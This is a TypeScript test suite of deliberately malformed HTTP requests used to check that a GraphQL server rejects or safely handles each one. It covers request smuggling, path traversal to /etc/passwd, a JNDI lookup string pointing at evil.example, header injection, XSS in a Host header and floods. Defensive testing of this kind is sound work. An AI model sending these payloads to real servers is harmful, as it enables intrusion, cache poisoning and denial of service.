/** Attacks on HTTP itself: framing that two servers read differently, odd heads, targets and methods, floods. */
import { asked, type Attack, attacks, got, head, host, path, posted, repeat, variants } from '../attack.ts'

const question = '{"query":"{ __typename }"}'
const length = `content-length: ${question.length}`
const json = 'content-type: application/json'
const chunked = 'transfer-encoding: chunked'
const chunk = `${question.length.toString(16)}\r\n${question}\r\n`
const target = `${path}?query=%7B__typename%7D`
const smuggled = head('GET /nowhere HTTP/1.1', host)

// What must not be read as `26`, `chunked` or `1a`, and paths that are not there.
const wrongLengths = ['+26', '-1', '0x1a', '26.0', '26, 26', '', '2 6', '9'.repeat(23), '٢٦']
const wrongCodings = ['identity', 'gzip', 'chunked, identity', 'xchunked', '"chunked"', '\x0bchunked']
const wrongSizes = ['zz', '0x1a', '+1a', '  1a', `1${'0'.repeat(16)}1a`, '5', '1a;\0=b', '1a\n', '1a;a\n']
const nearly = [`/${target}`, '/api/graphql/', '/API/GraphQL', '/api\\graphql', '/api%2Fgraphql', '/api;a=b']
const upwards = ['/api/../api/graphql', '/../../etc/passwd', '/%2e%2e/etc/passwd', '/%252e%252e%252fetc']
const files = [
  '/.git/config',
  '/metrics',
  '/playground/../package.json',
  '/playground/x/..%2f..%2fpackage.json',
]
const greetings = ['PRI * HTTP/2.0\r\n\r\nSM', 'SSH-2.0-OpenSSH_9.9', 'EHLO example.com', 'stats']

/** A POST with these lines before its body. */
const post = (lines: readonly string[], body: string): string =>
  head(`POST ${path} HTTP/1.1`, host, json, ...lines) + body
const get = (...lines: readonly string[]): string => head(`GET ${target} HTTP/1.1`, host, ...lines)
const toPath = (path: string): string => head(`GET ${path} HTTP/1.1`, host)

export const httpAttacks: readonly Attack[] = [
  ...attacks({ status: 400, code: 'BAD_REQUEST', leaves: 'closed' }, [
    ['a body in 100,000 chunks', post([chunked], `${'3\r\n   \r\n'.repeat(100_000)}0\r\n\r\n`)],
    // Where a request ends.
    ['Content-Length and Transfer-Encoding', post([length, chunked], `0\r\n\r\n${smuggled}`)],
    ['Transfer-Encoding and Content-Length', post([chunked, length], `0\r\n\r\n${smuggled}`)],
    ['two different Content-Lengths', post([length, 'content-length: 5'], question)],
    ['two equal Content-Lengths', post([length, length], question)],
    ...variants('a Content-Length of', wrongLengths, (value) => post([`content-length: ${value}`], question)),
    ['Transfer-Encoding: chunked twice', post([chunked, chunked], `${chunk}0\r\n\r\n`)],
    ...variants('a Transfer-Encoding of', wrongCodings, (value) =>
      post([`transfer-encoding: ${value}`], `${chunk}0\r\n\r\n`),
    ),
    [
      'Transfer-Encoding with a space before its colon',
      post(['transfer-encoding : chunked', length], question),
    ],
    [
      'Transfer-Encoding under HTTP/1.0 with a length',
      head(`POST ${path} HTTP/1.0`, json, length, chunked) + chunk,
    ],
    ...variants('a chunk size of', wrongSizes, (size) =>
      post([chunked], `${size.replace(/(?<!\n)$/, '\r\n')}${question}\r\n0\r\n\r\n`),
    ),
    ['a chunk that ends in a bare LF', post([chunked], `1a\r\n${question}\n0\r\n\r\n`)],
    [
      'a chunk extension of a megabyte',
      post([chunked], `1a;${'x'.repeat(1_000_000)}\r\n${question}\r\n0\r\n\r\n`),
    ],
    ['a trailer that says Content-Length', post([chunked], `${chunk}0\r\ncontent-length: 5\r\n\r\n`)],
    ['a trailer with a space before its colon', post([chunked], `${chunk}0\r\nx : y\r\n\r\n`)],
    // Lines of the head.
    ['bare LFs for CRLFs', `GET ${target} HTTP/1.1\nhost: x\n\n`],
    ['one bare LF in the head', `GET ${target} HTTP/1.1\r\nhost: x\nx-a: b\r\n\r\n`],
    ['a folded Transfer-Encoding', post([length, 'transfer-encoding:', ' chunked'], question)],
    ['a header that begins with a space', `GET ${target} HTTP/1.1\r\n host: x\r\n\r\n`],
    ['a folded header', get('x-a: b', ' folded: c')],
    ...variants('a control character in', ['a: b\rx-c: d', 'a: b\0c', 'a\0a: b', 'a: b\x7fc'], get),
    ...variants('no name of a header:', ['a : b', 'a', ': b', 'x(a): b', 'x-é: b'], get),
    ['no Host', head(`GET ${target} HTTP/1.1`)],
    ['two Hosts', get('host: y')],
    // The first line.
    ['HTTP/0.9', `GET ${target}\r\n\r\n`],
    ...variants('the version', ['HTTP/3.0', 'HTTP/1.10', 'http/1.1', ''], (version) =>
      head(`GET ${target} ${version}`, host),
    ),
    ...variants('the target', ['api/graphql', '/api/\0graphql', '/api/gräphql', '/?query={ a }'], toPath),
    ...variants('the method', ['get', 'STEAL', 'GET\t'], (name) => head(`${name} ${target} HTTP/1.1`, host)),
    ['a method of a megabyte', `${'G'.repeat(1_000_000)} / HTTP/1.1\r\n\r\n`],
    ...variants('another protocol:', greetings, (greeting) => `${greeting}\r\n\r\n`),
    ['a TLS greeting', Buffer.from('16030100c8010000c40303', 'hex')],
    ['a gzipped request', Buffer.from('1f8b0800000000000003', 'hex')],
    ['NULs alone', '\0'.repeat(10_000)],
  ]),
  ...attacks({ status: 413, code: 'PAYLOAD_TOO_LARGE', leaves: 'closed' }, [
    ['a URL of 17,000 characters', head(`GET ${target}#${'x'.repeat(17_000)} HTTP/1.1`, host)],
    ['a URL of a megabyte', head(`GET ${path}?query=${'x'.repeat(1_000_000)} HTTP/1.1`, host)],
    ['a header of 17,000 characters', get(`x-a: ${'b'.repeat(17_000)}`)],
    [
      'a body over the limit that waits for leave',
      post(['content-length: 1048577', 'expect: 100-continue'], ''),
    ],
    ['a header of a megabyte', get(`x-a: ${'b'.repeat(1_000_000)}`)],
    ['a header name of 17,000 characters', get(`${'x'.repeat(17_000)}: b`)],
    ['10,000 headers', get(...Array.from({ length: 10_000 }, (_, index) => `x-${index}: b`))],
    ['10,000 cookies', get(`cookie: ${repeat(10_000, (index) => `c${index}=x`, '; ')}`)],
    ['a trailer of a megabyte', post([chunked], `${chunk}0\r\nx: ${'y'.repeat(1_000_000)}\r\n\r\n`)],
    ['a body of two megabytes that is announced', asked(`{ __typename } #${'x'.repeat(2_000_000)}`)],
    ['a body that is announced as a terabyte', post(['content-length: 1099511627776'], question)],
    ['a body of two megabytes in chunks', post([chunked], `200000\r\n${' '.repeat(0x200000)}\r\n0\r\n\r\n`)],
  ]),
  ...attacks({ status: 200, code: null, leaves: 'open' }, [
    ['HEAD', head(`HEAD ${target} HTTP/1.1`, host)],
    ['* as the target', head('GET * HTTP/1.1', host)],
    ['two spaces before the target', head(`GET  ${target} HTTP/1.1`, host)],
    ['a body in one chunk', post([chunked], `${chunk}0\r\n\r\n`)],
    [
      'a body in a chunk for each byte',
      post([chunked], `${[...question].map((byte) => `1\r\n${byte}\r\n`).join('')}0\r\n\r\n`),
    ],
    ['a chunk extension', post([chunked], `1a;name=value\r\n${question}\r\n0\r\n\r\n`)],
    [
      'a chunk size with a hundred zeros',
      post([chunked], `${'0'.repeat(100)}1a\r\n${question}\r\n0\r\n\r\n`),
    ],
    ['a trailer', post([chunked], `${chunk}0\r\nx-a: b\r\n\r\n`)],
    ['a request in the body of a GET', get(`content-length: ${smuggled.length}`) + smuggled],
    ['Transfer-Encoding in capitals', post(['TRANSFER-ENCODING: CHUNKED'], `${chunk}0\r\n\r\n`)],
    ['empty lines before the request', `\r\n\r\n${get()}`],
    ['a header that is sent a hundred times', get(...Array.from({ length: 100 }, () => 'x-a: b'))],
    ['the endpoint by the URL of another host', head(`GET https://evil.example${target} HTTP/1.1`, host)],
    ['an empty Host', head(`GET ${target} HTTP/1.1`, 'host:')],
    ['a Host that is markup', head(`GET ${target} HTTP/1.1`, 'host: "><script>alert(1)</script>')],
    ['a Host of 10,000 characters', head(`GET ${target} HTTP/1.1`, `host: ${'x'.repeat(10_000)}`)],
    [
      'Upgrade: websocket',
      get(
        'connection: upgrade',
        'upgrade: websocket',
        'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
        'sec-websocket-version: 13',
      ),
    ],
    [
      'Upgrade: h2c',
      get('connection: upgrade, http2-settings', 'upgrade: h2c', 'http2-settings: AAMAAABkAAQAAP__'),
    ],
    ['a Range', get('range: bytes=0-5')],
    ['a thousand Ranges', get(`range: bytes=${repeat(1_000, (index) => `${index}-`, ',')}`)],
    ['If-Modified-Since of no date', get('if-modified-since: never')],
    ['If-None-Match of 2,000 tags', get(`if-none-match: ${repeat(2_000, (index) => `"${index}"`, ',')}`)],
    ['Accept of 3,000 types', get(`accept: ${repeat(3_000, (index) => `a/${index % 10}`, ',')}`)],
    ['Accept of commas', get(`accept: ${','.repeat(10_000)}`)],
    ['Accept of semicolons', get(`accept: a/b${';'.repeat(10_000)}`)],
    ['Accept-Encoding of 3,000 codings', get(`accept-encoding: ${repeat(3_000, () => 'gz', ',')}`)],
    ['a method override', get('x-http-method-override: DELETE', 'x-method-override: DELETE')],
    ['a forwarded host', get('x-forwarded-host: evil.example', 'forwarded: host=evil.example;proto=https')],
    ['a forwarded prefix and URL', get('x-original-url: /readyz', 'x-rewrite-url: /readyz')],
    [
      'headers called like properties',
      get('__proto__: x', 'constructor: y', 'toString: z', 'hasOwnProperty: w'),
    ],
    ['log injection', get('user-agent: a\\n{"level":"error"}', 'referer: ${jndi:ldap://evil.example/a}')],
    ['Expect: 100-continue with its body', post([length, 'expect: 100-continue'], question)],
    ['a question sent byte by byte', [...post([length], question)]],
    ['a thousand requests at once', get().repeat(1_000), { answers: 1_000 }],
    ['a thousand POSTs at once', post([length], question).repeat(1_000), { answers: 1_000 }],
  ]),
  ...attacks({ status: 417, code: null, leaves: 'open' }, [
    ['an expectation that nobody meets', head(`GET ${target} HTTP/1.1`, host, 'expect: miracles')],
  ]),
  ...attacks({ status: 404, code: 'NOT_FOUND', leaves: 'open' }, [
    ...variants('nearly the endpoint:', nearly, toPath),
    ...variants('a path that leads upwards:', upwards, toPath),
    ...variants('a file:', files, toPath),
    ...variants(
      'a control character in an escape:',
      ['/api/graphql%00', '/a%0d%0aset-cookie:%20a=b'],
      toPath,
    ),
    ['a path of 10,000 slashes', head(`GET ${'/'.repeat(10_000)} HTTP/1.1`, host)],
    ['a path of 5,000 escapes', head(`GET /${'%41'.repeat(5_000)} HTTP/1.1`, host)],
  ]),
  ...attacks({ status: 405, code: 'METHOD_NOT_ALLOWED', leaves: 'open' }, [
    ['PUT', head(`PUT ${path} HTTP/1.1`, host, 'content-length: 0')],
    ...variants('the method', ['DELETE', 'PROPFIND', 'SOURCE'], (name) =>
      head(`${name} ${path} HTTP/1.1`, host),
    ),
    ['TRACE', head(`TRACE ${path} HTTP/1.1`, host, 'x-api-key: secret')],
    ...variants(
      'a body by',
      ['PATCH', 'QUERY'],
      (name) => head(`${name} ${path} HTTP/1.1`, host, json, length) + question,
    ),
    ['POST to the health probe', head('POST /healthz HTTP/1.1', host, 'content-length: 0')],
  ]),
  ...attacks({ status: 404, code: null, leaves: 'open' }, [
    ['the URL of another host', head('GET http://evil.example/ HTTP/1.1', 'host: evil.example')],
  ]),
  ...attacks({ status: 204, code: null, leaves: 'open' }, [
    ['OPTIONS of *', head('OPTIONS * HTTP/1.1', host)],
    ['OPTIONS', head(`OPTIONS ${path} HTTP/1.1`, host)],
    [
      'a permission that is asked for a thousand headers',
      head(
        `OPTIONS ${path} HTTP/1.1`,
        host,
        'origin: null',
        'access-control-request-method: POST',
        `access-control-request-headers: ${repeat(1_000, (index) => `x-${index}`, ',')}`,
      ),
    ],
  ]),
  ...attacks({ status: 400, code: 'BAD_REQUEST', leaves: 'open' }, [
    ...variants('a path that is no UTF-8', ['/%zz', '/%ff'], toPath),
    ['a parameter twice', got('query=%7B__typename%7D&query=%7Bx%7D')],
    ...variants('a parameter that is no UTF-8:', ['%7B__typename%', '%C0%AF', '%FE%FF%00%7B'], (wrong) =>
      got(`query=${wrong}`),
    ),
    ['no query', got('')],
    ['nested parameters', got('query[]=%7B__typename%7D&query[a][b]=c')],
    ...variants('variables that are no object:', ['%7B', '%5B%5D'], (wrong) =>
      got(`query=%7B__typename%7D&variables=${wrong}`),
    ),
    ['2,000 parameters', got(repeat(2_000, (index) => `a${index}=`, '&'))],
    ['an empty body', posted('')],
  ]),
  ...attacks({ status: 400, code: 'BAD_REQUEST', leaves: 'closed' }, [
    ['a body that ends too soon', post(['content-length: 100'], question), { ends: true }],
    ['chunks that end too soon', post([chunked], chunk), { ends: true }],
    ['a head that ends too soon', `GET ${target} HTTP/1.1\r\nhost`, { ends: true }],
  ]),
  ...attacks({ status: 0, code: null, leaves: 'closed' }, [
    ['CONNECT', head('CONNECT evil.example:443 HTTP/1.1', host), { answers: 0 }],
    ['nothing at all', '', { answers: 0, ends: true }],
  ]),
]
